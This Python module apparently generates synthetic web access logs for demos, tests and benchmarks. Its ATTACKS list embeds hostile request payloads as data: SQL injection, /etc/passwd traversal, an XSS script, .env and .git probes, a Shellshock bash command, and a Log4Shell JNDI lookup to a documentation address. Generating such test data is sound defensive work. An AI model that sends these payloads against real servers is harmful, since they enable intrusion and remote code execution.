"""A deterministic generator of realistic access logs (combined format) for demo, tests, bench.

Same seed, same lines, on every machine. Traffic mixes IPv4 and IPv6 clients (including
IPv4-mapped and hostname clients), browsers, bots, a few attacks (SQL injection, path
traversal, scanners, login brute force), PII in URLs, and a sprinkle of malformed lines (TLS
handshakes, truncated lines, garbage, empty lines). All addresses come from documentation and
private ranges or are random; no real person's data.
"""

from __future__ import annotations

import itertools
import random
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta

BROWSERS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{v}.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.{m} Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:{v}.0) Gecko/20100101 Firefox/{v}.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_{m} like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.{m} Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{v}.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (iPad; CPU OS 17_{m} like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.{m} Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{v}.0.0.0 Safari/537.36 Edg/{v}.0.0.0",
]
BOTS = [
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
    "curl/8.5.0",
    "python-requests/2.32.3",
]
PAGES = [
    "/",
    "/index.html",
    "/about",
    "/contact",
    "/pricing",
    "/blog/",
    "/blog/privacy-by-design",
    "/blog/nightly-jobs",
    "/docs/getting-started",
    "/docs/api",
    "/chatbot",
    "/callbot",
    "/search?q=opening+hours",
    "/products/widget?id=42&utm_source=newsletter&utm_medium=email",
    "/login",
    "/account/settings",
    "/newsletter/confirm?email=jane.doe%40example.org&token=8f14e45fceea167a5a36dedd4bea2543",
]
STATIC = ["/static/app.js", "/static/app.css", "/static/logo.svg", "/favicon.ico", "/robots.txt"]
REFERRERS = [
    "-",
    "-",
    "-",
    "https://www.google.com/",
    "https://duckduckgo.com/",
    "https://www.bing.com/search?q=logtool",
    "https://news.ycombinator.com/item?id=1",
    "https://example.com/blog/",
    "android-app://com.slack",
]
ATTACKS = [
    ("GET", "/products/widget?id=42%27%20OR%201=1--", "sqlmap/1.8.3#stable (https://sqlmap.org)", 500),
    ("GET", "/../../../../etc/passwd", "Mozilla/5.0 zgrab/0.x", 400),
    (
        "GET",
        "/.env",
        "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))",
        404,
    ),
    ("GET", "/.git/config", "Mozilla/5.0 (l9explore/1.2.2)", 404),
    ("GET", "/search?q=%3Cscript%3Ealert(1)%3C/script%3E", "Mozilla/5.0 Nikto/2.5.0", 200),
    ("GET", "/cgi-bin/status", '() { :; }; /bin/bash -c \\"id\\"', 404),
    ("GET", "/?x=${jndi:ldap://198.51.100.9/a}", "${jndi:ldap://198.51.100.9/a}", 400),
]
MALFORMED = [
    "\\x16\\x03\\x01\\x02\\x00\\x01\\x00\\x01\\xfc\\x03\\x03",  # TLS handshake as request (parsed)
    "-",  # request "-" (parsed)
]


class _Clients:
    def __init__(self, rng: random.Random, n: int) -> None:
        self.pool: list[str] = []
        for i in range(n):
            r = rng.random()
            if r < 0.70:
                ip = f"{rng.choice([203, 198, 192, 100, 81, 93, 151, 62])}.{rng.randint(0, 255)}.{rng.randint(0, 255)}.{rng.randint(1, 254)}"
            elif r < 0.93:
                ip = f"2001:db8:{rng.randint(0, 0xFFFF):x}:{rng.randint(0, 0xFFFF):x}::{rng.randint(1, 0xFFFF):x}"
            elif r < 0.97:
                ip = f"::ffff:192.0.2.{rng.randint(1, 254)}"
            else:
                ip = f"host-{i}.dsl.example.net"
            self.pool.append(ip)
        # Zipf-ish popularity: a few heavy clients, a long tail.
        self.cum = list(itertools.accumulate(1.0 / (k + 1) ** 0.8 for k in range(n)))
        self.index = {ip: k for k, ip in enumerate(self.pool)}

    def pick(self, rng: random.Random) -> str:
        return rng.choices(self.pool, cum_weights=self.cum)[0]


def _clf_time(ts: datetime, offset_min: int) -> str:
    local = ts + timedelta(minutes=offset_min)
    sign = "+" if offset_min >= 0 else "-"
    hh, mm = divmod(abs(offset_min), 60)
    return local.strftime("%d/%b/%Y:%H:%M:%S") + f" {sign}{hh:02d}{mm:02d}"


def lines(
    start: datetime,
    count: int,
    seed: int = 1,
    span: timedelta = timedelta(days=1),
    clients: int = 2000,
    malformed_rate: float = 0.003,
    attack_rate: float = 0.01,
) -> Iterator[str]:
    """``count`` combined-format lines (no newline) spread evenly over ``span`` from ``start``."""
    rng = random.Random(seed)
    pool = _Clients(rng, clients)
    uas = [b.format(v=rng.randint(118, 131), m=rng.randint(0, 6)) for b in BROWSERS for _ in range(4)]
    offset = 60  # Europe/Berlin in winter
    step = span / max(count, 1)
    brute = pool.pool[7]
    for i, line in enumerate(_lines(start, count, rng, step, pool, uas, offset, brute, malformed_rate, attack_rate)):
        if i % 1000 < 8:  # a burst of failed logins from one client (brute force)
            t = _clf_time(start + step * i, offset)
            line = f'{brute} - - [{t}] "POST /wp-login.php HTTP/1.1" 401 {300 + i % 97} "-" "{uas[0]}"'
        yield line


_CRAWLER_NETS = {"Googlebot": "66.249.66.", "bingbot": "157.55.39."}


def _lines(start: datetime, count: int, rng: random.Random, step: timedelta, pool: _Clients, uas: list[str],
           offset: int, brute: str, malformed_rate: float, attack_rate: float) -> Iterator[str]:  # fmt: skip
    for i in range(count):
        ts = start + step * i
        t = _clf_time(ts, offset)
        r = rng.random()
        if r < malformed_rate:
            kind = rng.randrange(4)
            if kind == 0:
                yield ""
            elif kind == 1:
                yield f'{pool.pick(rng)} - - [{t}] "GET /truncated'
            elif kind == 2:
                yield "\x00\x01garbage that is not a log line"
            else:
                yield f'{pool.pick(rng)} - - [{t}] "{rng.choice(MALFORMED)}" 400 0 "-" "-"'
            continue
        client = pool.pick(rng)
        if r < malformed_rate + attack_rate:
            method, path, ua, status = rng.choice(ATTACKS)
            yield f'{client} - - [{t}] "{method} {path} HTTP/1.1" {status} {rng.randint(0, 600)} "-" "{ua}"'
            continue
        if r < malformed_rate + attack_rate + 0.01:  # login brute force from one client
            yield f'{brute} - - [{t}] "POST /wp-login.php HTTP/1.1" 401 {rng.randint(200, 400)} "-" "{uas[0]}"'
            continue
        if rng.random() < 0.12:
            ua = rng.choice(BOTS)
        else:
            ua = uas[pool.index[client] % len(uas)] if rng.random() < 0.9 else rng.choice(uas)
        path = rng.choice(STATIC) if rng.random() < 0.35 else rng.choice(PAGES)
        method = "POST" if path in ("/login", "/contact") and rng.random() < 0.3 else "GET"
        status = rng.choices([200, 304, 301, 404, 500], [85, 6, 3, 5, 1])[0]
        size = "-" if status == 304 else str(rng.randint(120, 250_000))
        user = "alice" if path.startswith("/account") and rng.random() < 0.5 else "-"
        ref = rng.choice(REFERRERS)
        if rng.random() < 0.002:
            ua = 'Mozilla/5.0 (compatible; \\"quoted\\" agent)'
        crawler = next((net for name, net in _CRAWLER_NETS.items() if name in ua), None)
        if crawler and i % 25:  # crawlers come from their published networks; 1 in 25 is a fake
            client = f"{crawler}{i % 250 + 1}"
        yield f'{client} - {user} [{t}] "{method} {path} HTTP/1.1" {status} {size} "{ref}" "{ua}"'


def days(first_day: datetime, n_days: int, per_day: int, seed: int = 1) -> Iterator[tuple[datetime, list[str]]]:
    """``n_days`` consecutive UTC days of ``per_day`` lines each: (day, lines)."""
    for d in range(n_days):
        day = (first_day + timedelta(days=d)).replace(hour=0, minute=0, second=0, microsecond=0, tzinfo=UTC)
        yield day, list(lines(day, per_day, seed=seed * 1000 + d, clients=max(50, per_day // 5)))
